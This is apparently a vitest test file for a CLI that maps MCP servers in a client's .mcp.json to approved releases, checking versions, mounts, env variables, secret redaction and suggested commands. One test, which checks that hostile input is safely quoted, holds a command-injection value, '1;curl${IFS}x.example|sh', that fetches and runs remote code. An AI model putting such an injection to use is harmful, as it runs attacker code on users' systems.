/** The servers of a client's file as those that are approved: what is asked for, what is left, and what to run for it. */
import { describe, expect, it } from 'vitest';
import type { Context } from '../../cli/command.ts';
import { add } from '../../cli/commands/add.ts';
import { clientFile, fromClient } from '../../cli/from-client.ts';
import { targetsOf } from '../../cli/scan/targets.ts';
import { entriesOf } from '../../scanner/targets/client-file.ts';
import type { Release } from '../../schemas/release.ts';

const NONE = { mounts: [], env: [], secrets: [] };

function approved(source: string, permissions: object = {}): Release {
  const version = source.slice(source.lastIndexOf('@') + 1);
  const name = source.startsWith('https:')
    ? 'acme.tools/search'
    : `npm.acme/${source.split(/[:@/]+/).at(-2)}`;
  const launch = { transport: 'stdio', command: ['node', 'index.js', '/data'] };
  const facts = source.startsWith('https:')
    ? { version: '1.0.0', launch: { transport: 'streamable-http' } }
    : { version, launch };
  return { name, source, ...facts, permissions: { ...NONE, ...permissions } } as unknown as Release;
}

function of(servers: object, ...releases: Release[]): ReturnType<typeof fromClient> {
  return fromClient(entriesOf('.mcp.json', JSON.stringify({ mcpServers: servers })), releases);
}

const DOCS = approved('npm:@acme/docs@2.1.0', { mounts: [{ target: '/data', mode: 'ro' }], env: ['LANG'] });

it.each([
  ['no version', '@acme/docs', '*'],
  ['the newest', '@acme/docs@latest', '*'],
  ['the one that is approved', '@acme/docs@2.1.0', '2.1.0'],
  ['a range that it is in', '@acme/docs@^2.0.0', '^2.0.0'],
])('a package with %s is asked for as %s', (_, word, range) => {
  const { wishes, missing } = of({ 'My Docs': { command: 'npx', args: ['-y', word] } }, DOCS);
  expect(missing).toEqual([]);
  expect(wishes).toMatchObject([
    { alias: 'my-docs', request: { server: 'npm.acme/docs', range }, notes: [] },
  ]);
});

it('takes the newest of several, and a remote server by its address', () => {
  const url = 'https://mcp.acme.example/mcp';
  const servers = { docs: { command: 'npx', args: ['@acme/docs'] }, search: { url } };
  const { wishes } = of(servers, approved('npm:@acme/docs@2.0.9'), DOCS, approved(url));
  expect(wishes.map(({ release }) => release.source)).toEqual(['npm:@acme/docs@2.1.0', url]);
});

it('gives a folder, variables and secrets where the approval takes them, and says what it does not', () => {
  const server = {
    command: 'npx',
    args: ['-y', '@acme/docs', './notes', '--fast', `ghp_${'a1B2'.repeat(9)}`],
    env: { LANG: 'C', TOKEN: 'x', DEBUG: '1' },
  };
  const permissions = { ...DOCS.permissions, secrets: ['TOKEN'] };
  const { wishes } = of({ docs: server }, { ...DOCS, permissions });
  expect(wishes[0]?.request).toEqual({
    server: 'npm.acme/docs',
    range: '*',
    mounts: { '/data': './notes' },
    env: ['LANG'],
    secrets: { TOKEN: 'env' },
  });
  expect(wishes[0]?.notes).toEqual([
    'docs is not given DEBUG: the approved release takes no such variable',
    'docs is started as approved, without --fast (a secret)',
  ]);
});

it('gives several folders, each where the approved command has it', () => {
  const mounts = ['/data2', '/data', '/data10'].map((target) => ({ target, mode: 'ro' }));
  const release = {
    ...approved('npm:@acme/docs@2.1.0', { mounts }),
    launch: { transport: 'stdio', command: ['node', 'index.js', '/data', '/data2', '/data10'] },
  } as Release;
  const asking = (...folders: string[]): ReturnType<typeof of> =>
    of({ docs: { command: 'npx', args: ['@acme/docs', ...folders] } }, release);
  const [wish] = asking('/srv/a', './b', '/srv/c').wishes;
  expect(wish?.request.mounts).toEqual({ '/data': '/srv/a', '/data2': './b', '/data10': '/srv/c' });
  expect(wish?.notes).toEqual([]);
  const [fewer] = asking('/srv/a', './b').wishes;
  expect(fewer?.request).not.toHaveProperty('mounts');
  expect(fewer?.notes).toEqual(['docs is started as approved, without /srv/a ./b']);
});

it.each([
  [
    'another package',
    { command: 'npx', args: ['-y', '@acme/doc', '/srv/my docs', 'x'], env: { KEY: 'v' } },
    'lk publish npm:@acme/doc --arg /data --arg x --mount /data:ro --env KEY',
  ],
  [
    'a package with folders of this machine',
    { command: 'npx', args: ['-y', '@acme/doc', '/root/a', '--also', './b', '/root/a'] },
    'lk publish npm:@acme/doc --arg /data --arg --also --arg /data2 --arg /data --mount /data:ro --mount /data2:ro',
  ],
  [
    'a version that is not approved',
    { command: 'npx', args: ['@acme/docs@1.0.0'] },
    'lk add npm.acme/docs --alias a',
  ],
  ['a package of Python', { command: 'uvx', args: ['Acme_Docs'] }, 'lk publish pypi:acme-docs'],
  ['an address', { url: 'https://x.example/mcp' }, 'lk publish https://x.example/mcp --release 1.0.0'],
  ['a shell', { command: 'bash', args: ['-c', 'x'] }, 'lk publish --help names the sources'],
])('%s is missing, with what to run', (_, server, next) => {
  const { wishes, missing } = of({ a: server }, DOCS);
  expect(wishes).toEqual([]);
  expect(missing).toMatchObject([{ alias: 'a', next }]);
});

it('never says a secret of the file, nor takes two servers for one', () => {
  const secret = `ghp_${'a1B2'.repeat(9)}`;
  const servers = {
    'a b': { command: 'npx', args: ['@acme/other', secret] },
    'a.b': { url: 'https://x.example' },
  };
  const { missing } = of(servers, DOCS);
  expect(JSON.stringify(missing)).not.toContain(secret);
  expect(missing.map(({ next }) => next)).toEqual([
    'lk publish npm:@acme/other --arg SECRET',
    'lk add NAME --alias OTHER',
  ]);
});

it('what it says to run is one command, whatever the file says', () => {
  const shell = '1;curl${IFS}x.example|sh';
  const { missing } = of({ a: { command: 'npx', args: [`left-pad@${shell}`] } }, DOCS);
  expect(missing).toMatchObject([{ next: `lk publish 'npm:left-pad@${shell}'` }]);
  const url = `https://x.example/mcp?api_key=${'a1b2c3'.repeat(5)}`;
  expect(of({ a: { url } }).missing).toMatchObject([
    { why: 'ADDRESS is not approved', next: 'lk publish ADDRESS --release 1.0.0' },
  ]);
});

describe('a name that the project has already', () => {
  const server = { command: 'npx', args: ['-y', '@acme/docs', './theirs'], env: { LANG: 'C', TOKEN: 'x' } };
  const release = { ...DOCS, permissions: { ...DOCS.permissions, secrets: ['TOKEN'] } };
  const ours = { mounts: { '/data': './ours' }, secrets: { TOKEN: 'file:./token' }, args: ['-v'] };
  const beside = (before: object): ReturnType<typeof fromClient> =>
    fromClient(entriesOf('.mcp.json', JSON.stringify({ mcpServers: { docs: server } })), [release], {
      docs: before,
    } as never);

  it('of the same server keeps what was said of it', () => {
    const { wishes } = beside({ server: 'npm.acme/docs', range: '^2.0.0', ...ours });
    expect(wishes.map(({ request }) => request)).toEqual([
      { server: 'npm.acme/docs', range: '^2.0.0', ...ours, env: ['LANG'] },
    ]);
  });

  it('of another server stays with that one', () => {
    const { wishes, missing } = beside({ server: 'npm.acme/notes', range: '*', ...ours });
    expect(wishes).toEqual([]);
    expect(missing).toMatchObject([{ alias: 'docs', next: 'lk add npm.acme/docs --alias OTHER' }]);
  });
});

it.each([
  ['npm:@acme/docs@2.1.0', 'Ask for a review with: lk publish npm:@acme/docs@2.1.0'],
  ['docs@new', 'Such as: lk add filesystem'],
  ['gone.json', 'found no gone.json'],
])('lk add %s says what it takes', async (word, next) => {
  const context = { cwd: import.meta.dirname } as Context;
  await expect(add.run(context, [word], {})).rejects.toThrow(next);
});

it('a file of a client that is not there is told as one', async () => {
  const asked = targetsOf('gone.json', import.meta.dirname, {} as never);
  await expect(asked).rejects.toThrow('found "gone.json", which is no file here');
});

it('a file that is broken says in which line', () => {
  expect(() => entriesOf('.mcp.json', '{\n  "mcpServers": {\n    "a": {]\n')).toThrow(/found \w+ in line 3/);
});

it('has each of them started by lk run in the project', () => {
  const { wishes } = of({ docs: { command: 'npx', args: ['@acme/docs'] } }, DOCS);
  expect(clientFile(wishes, '/srv/app').mcpServers).toEqual({
    docs: { command: 'lk', args: ['run', 'docs', '--project', '/srv/app'] },
  });
});
